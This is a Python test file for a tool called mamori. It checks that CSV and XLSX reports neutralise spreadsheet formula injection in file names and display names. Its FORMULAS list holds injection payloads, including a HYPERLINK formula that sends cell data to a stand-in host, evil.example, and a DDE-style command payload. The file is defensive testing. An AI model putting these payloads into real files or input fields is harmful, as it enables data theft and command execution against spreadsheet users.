"""Issue 17, item 10: no CSV or XLSX file mamori writes turns a file name or a person's name into a formula.

The scan report is run on a real tree whose entries are named like formulas (given as a shell's ``*`` gives
them, so the path cell starts with the formula); the training reports are built from records whose display
names are formulas. OWASP's advice: a leading single quote, and the field quoted.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from mamori.cli import main

TEXT = "担当 山田太郎 様 電話 090-1234-5678\n"
# One per character a spreadsheet reads as the start of a formula; none holds "/" so each is a file name.
FORMULAS = [
    '=HYPERLINK("http:evil.example?"&A2,"open")',
    "+1+cmd|' -c calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
]


def test_neutralise_quotes_every_formula_start_and_nothing_else() -> None:
    from mamori.spreadsheet import neutralise

    for value in FORMULAS:
        assert neutralise(value) == ("'" + value, True)
    for value in ("山田太郎", "memo=1.txt", "a-b", "", "'=already"):
        assert neutralise(value) == (value, False)


def test_csv_writer_quotes_the_neutralised_field() -> None:
    from mamori.spreadsheet import CsvWriter

    buf = io.StringIO()
    CsvWriter(buf, lineterminator="\n").writerow(["=1+2", "plain", 3, -4, None, 'say "hi", ok'])
    assert buf.getvalue() == '"\'=1+2",plain,3,-4,,"say ""hi"", ok"\n'
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+2", "plain", "3", "-4", "", 'say "hi", ok']


def test_scan_csv_report_writes_formula_file_names_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    names = [f"{f}.txt" for f in FORMULAS]
    for name in names:
        (tmp_path / name).write_text(TEXT, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["scan", "--workers", "1", "--format", "csv", "--", *names])
    assert result.exit_code == 1, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    paths = [row[0] for row in rows[1:-1]]
    assert sorted(paths) == sorted("'" + n for n in names)
    for name in names:  # the raw text: each such field is quoted, with the single quote first inside
        assert "\"'" + name.replace('"', '""') + '",' in result.stdout
    assert result.stdout.count("\"'") == len(names)


def _records():
    from datetime import UTC, datetime

    from mamori.training.course import builtin_courses_dir, load_course
    from mamori.training.progress import Progress

    course = load_course(builtin_courses_dir() / "pi-ch2")
    when = datetime(2026, 4, 1, tzinfo=UTC)
    records = [
        Progress(f"user{i}@example.jp", course.id, 2026, name, assigned_at=when) for i, name in enumerate(FORMULAS)
    ]
    records.append(Progress("ctl@example.jp", course.id, 2026, "山田\x01花子\x0b", assigned_at=when))
    return course, records


def test_training_csv_quotes_formula_names() -> None:
    from mamori.training.reports import csv_text, report_rows

    course, records = _records()
    text = csv_text(report_rows(course, records, "en"), "en")
    names = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert names[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert text.count("\"'") == len(FORMULAS)


def test_training_xlsx_stores_formula_names_as_text_and_survives_control_characters() -> None:
    from openpyxl import load_workbook

    from mamori.training.reports import report_rows, xlsx_bytes

    course, records = _records()
    book = load_workbook(io.BytesIO(xlsx_bytes(report_rows(course, records, "en"), "en", "pi-ch2 2026")))
    cells = [row[1] for row in book.active.iter_rows(min_row=2)]
    assert [c.value for c in cells[: len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    assert all(c.data_type == "s" for c in cells)  # a string, never a formula ("f")
    assert cells[-1].value == "山田\ufffd花子\ufffd"  # XML cannot hold \x01 or \x0b: replaced, not a crash


def test_xlsx_cell_keeps_numbers() -> None:
    from mamori.spreadsheet import xlsx_cell

    assert xlsx_cell(-3) == -3 and xlsx_cell(2.5) == 2.5 and xlsx_cell("=A1") == "'=A1"
